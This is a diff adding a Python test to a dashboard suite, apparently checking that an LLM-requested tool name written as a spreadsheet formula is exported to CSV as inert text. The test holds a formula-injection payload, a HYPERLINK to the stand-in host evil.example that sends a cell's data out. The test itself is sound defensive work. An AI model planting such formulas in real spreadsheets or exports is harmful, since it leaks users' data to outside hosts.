@@ -154,6 +154,25 @@ def test_every_table_downloads_as_csv_with_its_data(dashboard, recorded, live_st
     assert slowest["duration_ms"].tolist()[0] == 95_000
 
 
+def test_a_tool_name_written_as_a_formula_downloads_as_text(dashboard, live_store, downloads):
+    """The LLM names the tools it asks for, refused ones included: a name a spreadsheet
+    would run as a formula (a link sending the sheet's data away) stays text in the CSV."""
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+    objective = make_objective(live_store, title="Weekly leads")
+    Recorder(live_store, None).run(
+        objective.id,
+        answers=(Answer("model-a", 10, 5, 100, formula, call=ToolCallStatus.DENIED),),
+    )
+    at = dashboard.open("analytics")
+    no_traceback(at)
+
+    for key in ("csv_tools", "csv_refusals"):
+        table = pd.read_csv(io.BytesIO(downloads(at, key)), dtype=str)
+        cells = [cell for column in table.columns for cell in table[column].dropna()]
+        assert "'" + formula in cells, key
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), key
+
+
 def test_the_slowest_and_dearest_runs_link_to_their_page(dashboard, recorded):
     at = dashboard.open("analytics")
     no_traceback(at)
